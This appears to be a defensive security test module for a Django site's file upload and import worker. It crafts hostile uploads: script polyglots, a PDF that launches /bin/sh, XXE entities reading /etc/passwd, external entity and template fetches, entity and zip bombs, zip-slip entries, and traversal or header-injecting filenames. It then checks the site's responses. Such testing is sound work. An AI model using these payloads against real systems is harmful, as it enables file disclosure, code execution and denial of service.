"""Files that mean harm, uploaded as an editor may, read by the page or the worker; and how they are given out again."""

from __future__ import annotations

import io
import subprocess
import time
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from django.conf import settings
from django.urls import reverse

from attack import ground
from attack.client import Answer, files, get
from attack.site import Site
from attack.strings import ELSEWHERE, MARK
from convention.models import Document, TextImport

PATIENCE = 180.0  # seconds for the worker to read one file; it sets PDFs between
MOST_SECONDS = 20.0  # for an answer while somebody waits
MOST_MEMORY = 200  # MB that the worker may come to hold, whatever it is given: 95 at its start, and what its tasks need
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="'
    b'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    b' Target="word/document.xml"/></Relationships>'
)
WORD = (
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Article 1. Words</w:t></w:r></w:p></w:body></w:document>"
)
OUTSIDE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId9" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relation'
    b'ships/attachedTemplate" Target="https://' + ELSEWHERE.encode() + b'/t.dotm"/></Relationships>'
)
LAUGHS = (
    b"<!DOCTYPE l ["
    + b"".join(b'<!ENTITY a%d "%s">' % (n, (b"&a%d;" % (n - 1)) * 10 if n else b"ha") for n in range(10))
    + b"]><akomaNtoso>&a9;</akomaNtoso>"
)
PATHS = [
    "../../evil.txt", "..\\..\\evil.txt", "/etc/evil.txt", "a/b/c.txt", "evil\x00.txt", "%2e%2e%2fevil.txt",
    ".htaccess", "a" * 300 + ".txt", "\u202etxt.exe.txt", "con.txt", "evil.txt\r\nX-zq7: 1", 'a"; filename="b.txt',
    "<zq7>.txt",
]  # fmt: skip


@dataclass(frozen=True, slots=True)
class Trap:
    name: str
    content: bytes
    kind: str = "application/octet-stream"


def attack(site: Site) -> None:
    with ground.worker(site.folder) as worker:
        for trap in traps():
            _imported(site, trap, worker)
            _offered(site, trap)
        for name in PATHS:
            _imported(site, Trap(name, b"Article 1. Words\n\nWords."), worker)
        site.figures["most memory of the worker while it read"] = f"{_peak(worker.pid)} MB (limit: {MOST_MEMORY} MB)"
    site.figures["files that came as far as the importer"] = TextImport.objects.count()
    if TextImport.objects.count() < len(PATHS):
        site.find("set-up", "import", "hardly a file comes as far as the importer")
    for found in Document.objects.all():
        _given_out(site, site.ask(get(found.get_absolute_url())), found.get_absolute_url())
    base = Path(settings.DATA_DIR)
    for path in base.parent.rglob("*evil*"):
        if base not in path.resolve().parents:
            site.find("file", str(path), "written outside of the site's own folder")


def traps() -> Iterator[Trap]:
    """Yield what is not what it says, unpacks to a flood, runs, or fetches."""
    script = f"<script>alert(1)</script><{MARK}>".encode()
    yield Trap("polyglot.pdf", b"%PDF-1.7\n" + script + b"\nPK\x03\x04\n%%EOF", "application/pdf")
    yield Trap("page.pdf", b"<html>" + script, "application/pdf")
    yield Trap("gif.docx", b"GIF89a/*" + script + b"*/=1;", DOCX)
    yield Trap("script.pdf", pdf(b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"), "application/pdf")
    yield Trap("launch.pdf", pdf(b"<< /Type /Action /S /Launch /F (/bin/sh) >>"), "application/pdf")
    yield Trap("fetch.pdf", pdf(b"<< /S /URI /URI (https://elsewhere.example/) >>"), "application/pdf")
    yield Trap("flood.pdf", pdf(b"null", content=zlib.compress(b"(words) Tj " * 9_000_000, 9)), "application/pdf")
    yield Trap("loop.pdf", pdf(b"null", kids=b"[2 0 R 2 0 R]"), "application/pdf")
    yield Trap("wide.pdf", pdf(b"null", box=b"[0 0 9999999999 9999999999]"), "application/pdf")
    yield Trap(
        "picture.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + script + b"</svg>",
        "image/svg+xml",
    )
    yield Trap("entity.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><akomaNtoso>&b;</akomaNtoso>')
    yield Trap("laughs.xml", LAUGHS)
    yield Trap(
        "parameter.xml", b'<!DOCTYPE a [<!ENTITY % b SYSTEM "https://elsewhere.example/b.dtd">%b;]><akomaNtoso/>'
    )
    yield Trap("deep.xml", b"<akomaNtoso>" + b"<a>" * 200_000 + b"</a>" * 200_000 + b"</akomaNtoso>")
    yield Trap("attributes.xml", b"<akomaNtoso " + b" ".join(b'a%d="x"' % n for n in range(60_000)) + b"/>")
    yield Trap("outside.docx", packed({"word/document.xml": WORD, "word/_rels/settings.xml.rels": OUTSIDE}), DOCX)
    yield Trap(
        "entity.docx",
        packed({"word/document.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' + WORD}),
        DOCX,
    )
    yield Trap("bomb.docx", packed({"word/document.xml": b"<a>" + b" " * (400 << 20) + b"</a>"}), DOCX)
    yield Trap("media.docx", packed({"word/document.xml": WORD, "word/media/a.png": b"\0" * (300 << 20)}), DOCX)
    yield Trap("many.docx", packed({"word/document.xml": WORD, **{f"word/{n}.xml": b"" for n in range(20_000)}}), DOCX)
    yield Trap("slip.docx", packed({"word/document.xml": WORD, "../../../../tmp/evil.txt": b"evil"}), DOCX)
    yield Trap("macros.docx", packed({"word/document.xml": WORD, "word/vbaProject.bin": b"\0" * 9}), DOCX)
    yield Trap("nested.docx", packed({"word/document.xml": b"<w:p>" * 100_000}), DOCX)
    yield Trap(
        "picture.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x06\0\0\0", "image/png"
    )
    yield Trap("long.txt", b"Article 1 " + b"a" * 5_000_000)
    yield Trap("lines.txt", b"(a)\n" * 300_000)
    yield Trap("markup.txt", f"Article 1. <{MARK}>\n\n<{MARK}> <script>alert(1)</script>\n\n".encode() * 20)
    yield Trap("bytes.txt", bytes(range(256)) * 50)
    yield Trap("nul.txt", b"Article 1\x00\n" * 50)


def packed(parts: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, **parts}.items():
            archive.writestr(name, content)
    return held.getvalue()


def pdf(action: bytes, *, content: bytes = b"", kids: bytes = b"[3 0 R]", box: bytes = b"[0 0 612 792]") -> bytes:
    """Return a PDF of one page that does this when it is opened."""
    stream = content or zlib.compress(b"BT /F1 12 Tf 72 700 Td (Article 1. Words) Tj ET")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>",
        b"<< /Type /Pages /Kids " + kids + b" /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox "
        + box
        + b" /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    made, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = (
        b"xref\n0 6\n0000000000 65535 f \n"
        + table
        + b"trailer << /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(made)
    )
    return made + end


def _imported(site: Site, trap: Trap, worker: subprocess.Popen[bytes]) -> None:
    before = set(TextImport.objects.values_list("pk", flat=True))
    words: dict[str, object] = {"language": "en", "label": f"trap-{len(before)}", "date": "", "title": "Trap"}
    path = reverse("admin:convention_textimport_add")
    answer = site.ask(files(path, words, {"file": (trap.name, trap.content, trap.kind)}, "editor"))
    _in_time(site, "import", trap, answer)
    made = TextImport.objects.exclude(pk__in=before).first()
    if made is None:
        return
    limit = time.monotonic() + PATIENCE
    while TextImport.objects.filter(pk=made.pk, state=TextImport.State.WAITING).exists():
        if worker.poll() is not None:
            site.find("file", f"import {trap.name}", "the worker died of it")
            return
        if time.monotonic() > limit:
            site.find("file", f"import {trap.name}", f"not read within {PATIENCE:.0f} seconds")
            return
        time.sleep(0.1)
    if (held := _peak(worker.pid)) > MOST_MEMORY:
        site.find("file", f"import {trap.name}", f"the worker came to hold {held} MB")
    review = site.ask(get(reverse("admin:convention_textimport_change", args=[made.pk]), "editor"))
    if b"root:x:0" in review.body:
        site.find("file", f"import {trap.name}", "a file of the machine is shown")
    if "/" in made.source_name or "\\" in (made.file.name or ""):
        site.find("file", f"import {trap.name}", f"kept under {made.file.name!r} as {made.source_name!r}")


def _offered(site: Site, trap: Trap) -> None:
    words: dict[str, object] = {"kind": "summary", "language": "en", "title": f"Trap {trap.name}", "date": "2017-04-01"}
    path = reverse("admin:convention_document_add")
    answer = site.ask(files(path, words, {"file": (trap.name, trap.content, trap.kind)}, "editor"))
    _in_time(site, "document", trap, answer)


def _in_time(site: Site, where: str, trap: Trap, answer: Answer) -> None:
    if answer.seconds > MOST_SECONDS:
        site.find("file", f"{where} {trap.name}", f"its uploader waits for {answer.seconds:.0f} seconds")


def _given_out(site: Site, answer: Answer, where: str) -> None:
    wanted = {
        "content-disposition": "attachment",
        "x-content-type-options": "nosniff",
        "content-security-policy": "sandbox",
    }
    for name, value in wanted.items():
        if answer.status == 200 and value not in answer.header(name):
            site.find("file", where, f"given out with {name}: {answer.header(name)!r}")
    if answer.header("content-type") not in {"application/pdf", DOCX}:
        site.find("file", where, f"given out as {answer.header('content-type')}")


def _peak(pid: int) -> int:
    """Return the most megabytes that the process ever held."""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0
    return next((int(line.split()[1]) // 1024 for line in status.splitlines() if line.startswith("VmHWM")), 0)
